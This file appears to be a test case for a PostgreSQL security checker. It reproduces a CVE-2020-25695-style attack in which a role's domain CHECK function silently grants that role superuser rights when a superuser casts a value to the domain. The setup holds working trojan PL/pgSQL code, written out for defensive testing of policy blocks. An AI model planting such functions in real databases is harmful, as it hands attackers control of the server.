/*---
title: A cast to another role's domain runs the domain's CHECK as the caller
pattern: Trojan domain CHECK reached by a cast, with no table involved (CVE-2020-25695 family)
description: >
  mallory publishes the domain mallory.email_address with CHECK (mallory.valid_email(VALUE)).
  alice, a superuser, validates an address by casting it to the domain in a plain SELECT. The
  cast checks the value with mallory's function, with alice's rights, and the function makes
  mallory a superuser. No table, column or default is involved: the domain's constraint is the
  only stored code on the chain.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: domain_constraint, object: domain mallory.email_address check looks_like_email, owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: domain_constraint, object: domain mallory.email_address check looks_like_email, owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: domain_constraint, object: domain mallory.email_address check looks_like_email, owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: domain_constraint, object: domain mallory.email_address check looks_like_email, owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: domain_constraint, object: domain mallory.email_address check looks_like_email, owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: domain_constraint, object: domain mallory.email_address check looks_like_email, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: domain_constraint, object: domain mallory.email_address check looks_like_email, owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.valid_email(text) RETURNS boolean
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  RETURN $1 LIKE '%_@_%';
END $$;
CREATE DOMAIN mallory.email_address AS text CONSTRAINT looks_like_email CHECK (mallory.valid_email(VALUE));
RESET ROLE;

-- @step alice
SELECT 'ann@example.org'::mallory.email_address AS checked;
